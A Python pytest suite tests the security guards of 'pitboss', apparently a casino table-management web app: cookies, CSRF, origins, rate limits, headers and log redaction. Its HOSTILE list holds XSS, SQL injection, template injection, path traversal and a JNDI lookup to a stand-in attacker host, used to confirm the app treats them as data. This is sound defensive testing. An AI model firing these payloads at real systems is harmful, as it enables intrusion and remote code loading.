"""Doors and guards: cookies, tokens, origins, hosts, sizes, rates, and what is in every answer."""

from __future__ import annotations

import json
import logging
import re
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from pitboss.codes import codes
from pitboss.house.people.hashing import hashed
from pitboss.web.limits import Limits, Rate
from web_house import BEGIN, EVERYBODY, HOME, PINS, STRANGER, WebHouse, web_house

SIGNED = "/api/v1/sign-in"
COMMANDS = f"/api/v1/tables/{HOME}/commands"
HOSTILE = (
    "<script>alert(1)</script>",
    "'; DROP TABLE journal; --",
    '" onmouseover="alert(1)',
    "{{ 7 * 7 }}",
    "../../etc/passwd",
    "%00",
    "\u202e\u0000",
    "\ud83d",
    "A" * 5_000,
    "${jndi:ldap://evil.example}",
)


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebHouse]:
    with web_house(tmp_path_factory.mktemp("guard")) as running:
        running.play(*BEGIN)
        yield running


def told(response: httpx.Response, status: int, code: str) -> None:
    """Hold that a no has the one shape, a code that is declared, and this one."""
    data = response.json()
    assert (response.status_code, data["code"]) == (status, code), response.text
    assert {"code", "message", "remedy", "cite"} <= data.keys()
    assert data["code"] in codes()


# --- cookies ---


@pytest.fixture
def browser(house: WebHouse) -> Iterator[httpx.Client]:
    """Give a browser in which a dealer has signed in."""
    badge, pin = PINS["dealer"]
    with house.client() as client:
        response = client.post(SIGNED, json={"badge": badge, "pin": pin, "table": HOME})
        assert response.status_code == 200
        yield client


def test_the_cookie_is_not_for_scripts_and_not_for_other_sites(house: WebHouse) -> None:
    badge, pin = PINS["dealer"]
    response = house.client().post(SIGNED, json={"badge": badge, "pin": pin, "table": HOME})
    token, csrf = response.json()["token"], response.json()["csrf"]
    cookies = {one.partition("=")[0]: one for one in response.headers.get_list("set-cookie")}
    assert set(cookies) == {"pitboss", "pitboss-csrf"}
    assert token in cookies["pitboss"] and csrf in cookies["pitboss-csrf"]
    assert "HttpOnly" in cookies["pitboss"]
    assert all("samesite=strict" in one.lower() and "Path=/" in one for one in cookies.values())
    assert response.headers["cache-control"] == "no-store"


def test_a_cookie_reads_but_changes_nothing_without_its_token(browser: httpx.Client) -> None:
    assert browser.get("/api/v1/me").json()["badge"] == PINS["dealer"][0]
    line = {"id": "csrf-1", "line": "sit 5"}
    told(browser.post(COMMANDS, json=line), 403, "csrf-needed")
    wrong = {"X-CSRF-Token": "c_wrong"}
    told(browser.post(COMMANDS, json=line, headers=wrong), 403, "csrf-needed")
    right = {"X-CSRF-Token": browser.cookies["pitboss-csrf"]}
    assert browser.post(COMMANDS, json=line, headers=right).status_code == 200


def test_a_paired_browser_needs_its_token_too(house: WebHouse) -> None:
    place = {"kind": "seat", "table": HOME, "seat": 4}
    code = house.client("administrator").post("/api/v1/devices", json=place).json()["code"]
    with house.client() as browser:
        paired = browser.post("/api/v1/pair", json={"code": code}).json()
        assert browser.get("/api/v1/me").json()["seat"] == 4
        line = {"id": "csrf-2", "line": "bet 4 player 25"}
        told(browser.post(COMMANDS, json=line), 403, "csrf-needed")
        right = {"X-CSRF-Token": paired["csrf"]}
        told(browser.post(COMMANDS, json=line, headers=right), 403, "not-allowed")  # with chips
        again = house.client().post("/api/v1/pair", json={"code": code})
        told(again, 401, "wrong-code")


def test_signing_out_ends_the_session_and_takes_the_cookie(browser: httpx.Client) -> None:
    headers = {"X-CSRF-Token": browser.cookies["pitboss-csrf"]}
    stolen = browser.cookies["pitboss"]
    assert browser.post("/api/v1/sign-out", headers=headers).status_code == 200
    assert "pitboss" not in browser.cookies
    told(browser.get("/api/v1/me", cookies={"pitboss": stolen}), 401, "sign-in-needed")
    told(
        browser.get("/api/v1/me", headers={"Authorization": f"Bearer {stolen}"}), 401, "token-ended"
    )


@pytest.mark.parametrize(
    "token", ["x", "s_", "d_x", "s_" + "A" * 43, "x" * 500, "s_\u00e9", "' OR 1=1 --"]
)
def test_forged_tokens_are_nobody(house: WebHouse, token: str) -> None:
    with house.client() as client:
        bearer = {b"Authorization": f"Bearer {token}".encode()}
        response = client.get("/api/v1/me", headers=bearer)
        told(response, 401, "token-ended")
        if token.isascii():
            response = client.get("/api/v1/me", headers={"Cookie": f'pitboss="{token}"'})
            told(response, 401, "sign-in-needed")
            assert client.get("/", headers={"Cookie": f"pitboss={token}"}).status_code == 200


# --- where from ---


def test_other_origins_and_hosts_are_refused(house: WebHouse) -> None:
    line = {"id": "origin", "line": "sit 5"}
    with house.client("dealer") as client:
        for origin in ("http://evil.example", "null", f"https://127.0.0.1:{house.port}"):
            response = client.post(COMMANDS, json=line, headers={"Origin": origin})
            told(response, 403, "wrong-origin")
        own = client.post(COMMANDS, json=line, headers={"Origin": house.url})
        assert own.status_code in (200, 409)
        told(client.get("/health", headers={"Host": "evil.example"}), 400, "other-host")
        assert client.get("/health", headers={"Host": "localhost"}).status_code == 200
        assert "access-control-allow-origin" not in own.headers


# --- how much ---


def test_a_large_body_is_refused(house: WebHouse) -> None:
    with house.client("dealer") as client:
        large = {"id": "large", "line": "x" * 70_000}
        told(client.post(COMMANDS, json=large), 413, "request-too-large")

        def pieces() -> Iterator[bytes]:
            for _ in range(20):
                yield b"x" * 10_000

        json_type = {"Content-Type": "application/json"}
        told(client.post(COMMANDS, content=pieces(), headers=json_type), 413, "request-too-large")


@pytest.mark.parametrize(
    "body",
    [b"", b"{", b"nonsense", b"\xff", b'{"id": NaN}', b'{"id": "\\ud800"}', b"[" * 60_000, b"null"],
)
def test_what_is_no_json_is_refused(house: WebHouse, body: bytes) -> None:
    with house.client("dealer") as client:
        json_type = {"Content-Type": "application/json"}
        response = client.post(COMMANDS, content=body, headers=json_type)
        assert response.status_code in (400, 422)
        assert response.json()["code"] in ("bad-request", "bad-fields")
        told(client.post(COMMANDS, content=b"a=1"), 400, "bad-request")


def test_too_many_requests_are_refused_until_time_has_passed(tmp_path: Path) -> None:
    tight = Limits(strangers=Rate(5, 20), sessions=Rate(5, 10), doors=Rate(0.5, 3))
    with web_house(tmp_path, tight) as house, house.client() as stranger:
        answers = [stranger.get("/health") for _ in range(40)]
        told(answers[-1], 429, "too-many-requests")
        assert int(answers[-1].headers["retry-after"]) >= 1
        with house.client("dealer") as dealer:  # has a bucket of its own
            assert dealer.get("/api/v1/me").status_code == 200
            codes_of = [dealer.get("/api/v1/me").status_code for _ in range(20)]
            assert 429 in codes_of
        tries = [stranger.post(SIGNED, json={"badge": "2207", "pin": "0000"}) for _ in range(6)]
        assert tries[0].status_code == 401 and tries[-1].status_code == 429
        assert house.client("supervisor").get("/api/v1/me").status_code == 200


# --- in every answer ---


def test_every_answer_has_the_headers(house: WebHouse) -> None:
    with house.client() as client:
        for path in ("/", "/sign-in", "/nowhere", "/api/v1/me", "/static/pitboss.js", "/health"):
            headers = client.get(path).headers
            policy = headers["content-security-policy"]
            assert "default-src 'none'" in policy and "unsafe" not in policy
            assert headers["x-content-type-options"] == "nosniff"
            assert headers["x-frame-options"] == "DENY"
            assert headers["referrer-policy"] == "no-referrer"
            assert "server" not in headers


def test_pages_have_no_inline_script_or_style(house: WebHouse) -> None:
    pages = ["/", f"/tables/{HOME}/sign", f"/tables/{HOME}/dealer", f"/tables/{HOME}/seat/3"]
    pages += ["/sign-in", "/pair", "/nowhere"]
    with house.client("supervisor") as client:
        for path in pages:
            text = client.get(path).text.lower()
            assert "style=" not in text and "<style" not in text and "javascript:" not in text
            assert not re.search(r"<[^>]*\son[a-z]+\s*=", text)
            scripts = re.findall("<script[^>]*>(.*?)</script>", text)
            assert scripts and not any(scripts) and text.count("<script") == len(scripts)
            assert len(scripts) == len(re.findall('<script[^>]* src="/static/', text))


def test_errors_have_one_shape_and_pages_have_words(house: WebHouse) -> None:
    with house.client() as client:
        told(client.get("/api/v1/nothing"), 404, "nothing-here")
        told(client.delete("/api/v1/tables"), 405, "method-not-offered")
        told(client.get("/api/v1/odds"), 422, "bad-fields")
        told(client.get("/api/v1/odds?wager=nothing/here"), 404, "unknown-game")
        told(client.get("/api/v1/wagers/nothing"), 404, "unknown-game")
        page = client.get("/nowhere")
        assert page.status_code == 404 and "<h1>There is nothing at this address</h1>" in page.text


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_data_everywhere(house: WebHouse, text: str) -> None:
    """Whatever stands in a field is refused or kept as text: no page runs it, no query does."""
    lines = len(house.client().get("/api/v1/tables").json())
    body = json.dumps({"id": "x", "line": text}).encode()
    fields = json.dumps({"badge": text, "pin": text, "table": text, "code": text}).encode()
    sent = {"Content-Type": "application/json"}
    answers = []
    for role in (STRANGER, "dealer", "supervisor", "administrator"):
        with house.client(role) as client:
            for path in (COMMANDS, "/api/v1/jackpots/sun-7/commands", "/api/v1/house/commands"):
                answers.append(client.post(path, content=body, headers=sent))
            for path in (SIGNED, "/api/v1/pair", "/api/v1/people", "/api/v1/devices"):
                answers.append(client.post(path, content=fields, headers=sent))
            if text.isprintable() and "\ud83d" not in text:
                for path in ("/api/v1/reports/overview", "/api/v1/accesses", "/api/v1/odds"):
                    query = {"jackpot": text, "badge": text, "wager": text}
                    answers.append(client.get(path, params=query))
                quoted = httpx.QueryParams({"x": text}).get("x").replace("/", "%2F")
                answers.append(client.get(f"/tables/{quoted}/sign"))
    for answer in answers:
        assert answer.status_code < 500, answer.text
        if "html" in answer.headers["content-type"]:
            assert "<script>alert" not in answer.text and 'onmouseover="alert' not in answer.text
            assert "49" not in answer.text or "{{ 7 * 7 }}" not in text
    assert len(house.client().get("/api/v1/tables").json()) == lines


def test_another_badge_in_a_line_counts_for_nothing(house: WebHouse) -> None:
    line = {"id": "forged", "line": "void error by 2207"}
    response = house.client("dealer").post(COMMANDS, json=line)
    assert response.status_code in (403, 409, 422)
    cards = {"cards": [{"badge": "2207", "pin": "0000"}]}
    forged = {"id": "forged-2", "line": "fill 500 signed 1101 and 2207", **cards}
    told(house.client("dealer").post(COMMANDS, json=forged), 403, "wrong-badge-or-pin")


def test_another_persons_id_is_refused_without_its_answer(house: WebHouse) -> None:
    line = {"id": "of-the-dealer", "line": "sit 6"}
    assert house.client("dealer").post(COMMANDS, json=line).status_code == 200
    told(house.client("supervisor").post(COMMANDS, json=line), 409, "id-taken")


def test_no_secret_is_in_the_log(house: WebHouse, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.DEBUG):
        badge, pin = PINS["executive"]
        signed = house.client().post(SIGNED, json={"badge": badge, "pin": pin}).json()
        house.client().post(SIGNED, json={"badge": badge, "pin": "98765432"})
    own = [record.getMessage() for record in caplog.records if record.name.startswith("pitboss")]
    logged = " ".join(own)
    entries = house.client("auditor").get("/api/v1/accesses?most=1000").text
    for secret in (pin, "98765432", signed["token"], signed["csrf"]):
        assert secret not in logged and secret not in entries


def test_accesses_are_logged_and_public_reading_is_not(house: WebHouse) -> None:
    house.client("dealer").get(f"/api/v1/tables/{HOME}")
    house.client("dealer").get("/api/v1/jackpots/sun-7")
    house.client().get("/api/v1/wagers")
    entries = house.client("auditor").get("/api/v1/accesses?most=50").json()
    seen = {(one["badge"], one["what"], one["outcome"]) for one in entries}
    dealer = PINS["dealer"][0]
    assert (dealer, f"GET /api/v1/tables/{HOME}", "200") in seen
    assert (dealer, "GET /api/v1/jackpots/sun-7", "403") in seen
    assert not any("wagers" in what for _, what, _ in seen)
    assert all(one["address"] in ("127.0.0.1", "") for one in entries)


# --- people and devices ---


def test_a_badge_is_enrolled_with_its_pin_and_signs_in(house: WebHouse) -> None:
    asked = {"id": "enrol-1", "badge": "7101", "level": "dealer", "pin": "2468"}
    with house.client("administrator") as client:
        assert client.post("/api/v1/people", json=asked).status_code == 200
        assert {"id": "7101", "level": "dealer"} in client.get("/api/v1/people").json()
        signed = {"badge": "7101", "pin": "2468", "table": HOME}
        assert house.client().post(SIGNED, json=signed).status_code == 200
        changed = client.post("/api/v1/people/7101/pin", json={"pin": "1357"})
        assert changed.status_code == 200
        told(house.client().post(SIGNED, json=signed), 401, "wrong-badge-or-pin")
    with house.running.service.house.database.reading() as connection:
        lines = connection.exec_driver_sql("SELECT body FROM journal WHERE stream='house'")
        assert not any("2468" in body for (body,) in lines)


def test_one_of_two_people_waits_and_another_approves(house: WebHouse) -> None:
    jackpot = "/api/v1/jackpots/harmony/commands"
    line = {"id": "two-1", "line": "adjust +5 by 2207 and 3301: the sign was wrong"}
    with house.client("supervisor") as first, house.client("executive") as second:
        waits = first.post(jackpot, json=line)
        assert waits.status_code == 202, waits.text
        number = waits.json()["proposal"]
        assert str(number) in {one["id"] for one in first.get("/api/v1/proposals").json()}
        approve = {"id": "two-2", "line": f"approve {number}"}
        own = first.post("/api/v1/house/commands", json=approve)
        told(own, 403, "another-person-needed")
        done = second.post("/api/v1/house/commands", json=approve)
        assert done.status_code == 200 and done.json()["facts"], done.text
        told(second.post("/api/v1/house/commands", json=approve), 409, "proposal-decided")
        number = first.post(jackpot, json={**line, "id": "two-3"}).json()["proposal"]
        decline = {"id": "two-4", "line": f"decline {number}"}
        declined = second.post("/api/v1/house/commands", json=decline)
        assert declined.status_code == 200 and not declined.json()["facts"], declined.text
        assert declined.json()["version"] == house.running.board.streams["house"].version


def test_health_and_metrics(house: WebHouse) -> None:
    assert house.client().get("/health").json()["status"] == "ok"
    text = house.client("auditor").get("/metrics").text
    names = {
        line.partition("{")[0].partition(" ")[0] for line in text.splitlines() if line[0] != "#"
    }
    assert {"pitboss_lines", "pitboss_clients", "pitboss_commands_total"} <= names
    assert "pitboss_acknowledged_seconds_bucket" in names and "pitboss_batch_commands_sum" in names
    for line in text.splitlines():
        if not line.startswith("#"):
            float(line.rpartition(" ")[2])


def test_every_command_that_is_committed_is_counted_once(house: WebHouse) -> None:
    def counted() -> float:
        lines = house.client("auditor").get("/metrics").text.splitlines()
        (sum,) = (line for line in lines if line.startswith("pitboss_batch_commands_sum"))
        return float(sum.rpartition(" ")[2])

    before = counted()
    for _ in range(3):
        house.line("dealer", "close shift 1 signed nobody")
        assert counted() == before, "what cannot be read is not committed"
    house.play("open", "sit 3", table="7")
    assert counted() == before + 2


def test_everybody_is_somebody(house: WebHouse) -> None:
    for role in EVERYBODY[1:]:
        assert house.client(role).get("/api/v1/me").json()["role"] == role


# --- what ends, and what fails ---


def test_an_expired_session_is_nobody(house: WebHouse) -> None:
    badge, pin = PINS["executive"]
    with house.client() as client:
        token = client.post(SIGNED, json={"badge": badge, "pin": pin}).json()["token"]
        own = {"Authorization": f"Bearer {token}"}
        with house.running.service.house.database.engine.begin() as connection:
            ended = "UPDATE session SET ends = 1 WHERE token_hash = ?"
            connection.exec_driver_sql(ended, (hashed(token),))
        told(client.get("/api/v1/me", headers=own), 401, "token-ended")
        told(client.get("/api/v1/me", cookies={"pitboss": token}), 401, "sign-in-needed")


def test_a_mistake_of_ours_has_the_same_shape_and_is_logged(
    house: WebHouse, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def fails(*_: object) -> object:
        raise ZeroDivisionError

    monkeypatch.setattr(house.app.state.records, "report", fails)
    response = house.client("auditor").get("/api/v1/reports/overview")
    told(response, 500, "server-failed")
    assert "default-src 'none'" in response.headers["content-security-policy"]
    assert "ZeroDivisionError" in caplog.text and "ZeroDivisionError" not in response.text


def test_a_database_that_is_away_is_said_so_and_comes_back(tmp_path: Path) -> None:
    with web_house(tmp_path) as house, house.client("supervisor") as client:
        assert client.post(COMMANDS, json={"id": "1", "line": "open"}).status_code == 200
        aside = tmp_path / "aside"
        aside.mkdir()
        for file in tmp_path.glob("house.db*"):  # what is committed may still be in the -wal
            file.rename(aside / file.name)
        away = client.post(COMMANDS, json={"id": "2", "line": "sit 3"})
        told(away, 503, "database-lost")
        assert client.get("/health").status_code == 200
        for left in tmp_path.glob("house.db*"):
            left.unlink()
        for file in aside.iterdir():
            file.rename(tmp_path / file.name)
        again = client.post(COMMANDS, json={"id": "2", "line": "sit 3"})
        assert again.status_code == 200, again.text
